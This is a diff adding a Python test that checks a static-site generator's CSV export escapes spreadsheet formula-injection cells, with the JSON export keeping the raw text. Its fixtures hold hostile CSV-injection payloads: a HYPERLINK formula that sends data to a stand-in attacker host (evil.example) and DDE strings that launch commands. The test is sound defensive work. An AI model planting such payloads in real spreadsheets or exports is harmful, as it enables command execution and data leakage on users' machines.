@@ -86,6 +86,35 @@ def test_csv_export_matches_json_and_leaks_nothing_private(site_tree, tmp_path):
     assert "B" in {row["title"] for row in rows} and "E" not in {row["title"] for row in rows}
 
 
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_json_keeps_the_text(site_tree, tmp_path):
+    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading '."""
+    hostile = {  # as JSON, which YAML reads as it is
+        "title": json.dumps('=HYPERLINK("https://evil.example/?leak=","Source")'),
+        "source": json.dumps("+cmd|' /C calc'!A0"),
+        "summary": json.dumps("@SUM(1+1)*cmd|' /C calc'!A0"),
+        "authors": json.dumps(["-2+3+cmd|' /C calc'!A0", "=1+1"]),
+    }
+    article = "---\n" + "".join(f"{key}: {value}\n" for key, value in hostile.items()) + \
+        "date: 2017-10-05\ntags: [law]\n---\nBody.\n"
+    pages = "---\ntitle: Plain -12\ndate: 2017-10-06\nsource: \"-12\"\nsummary: \"-3.5\"\n---\nBody.\n"
+    report = build_site(site_tree({"content/tags.yaml": TAGS, "content/articles/evil.md": article,
+                                   "content/articles/plain.md": pages}))
+    assert not report.errors, [d.format() for d in report.errors]
+    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(
+        (tmp_path / "_site/data/items.csv").read_text(encoding="utf-8")))}
+    evil = rows["evil"]
+    assert evil["title"] == "'=HYPERLINK(\"https://evil.example/?leak=\",\"Source\")"
+    assert evil["source"] == "'+cmd|' /C calc'!A0"
+    assert evil["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert evil["authors"] == "'-2+3+cmd|' /C calc'!A0; =1+1"
+    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in ("=", "+", "@", "\t", "\r")
+                or (cell[:1] == "-" and not cell.lstrip("-").replace(".", "").isdigit())]
+    assert (rows["plain"]["source"], rows["plain"]["summary"]) == ("-12", "-3.5")  # plain numbers stay numbers
+    items = {item["slug"]: item for item in json.loads((tmp_path / "_site/data/items.json").read_text())["items"]}
+    assert items["evil"]["title"] == '=HYPERLINK("https://evil.example/?leak=","Source")'
+    assert items["evil"]["authors"] == ["-2+3+cmd|' /C calc'!A0", "=1+1"]
+
+
 def test_export_is_deterministic(site_tree, tmp_path):
     root = make_archive(site_tree)
     build_site(root, tmp_path / "one")
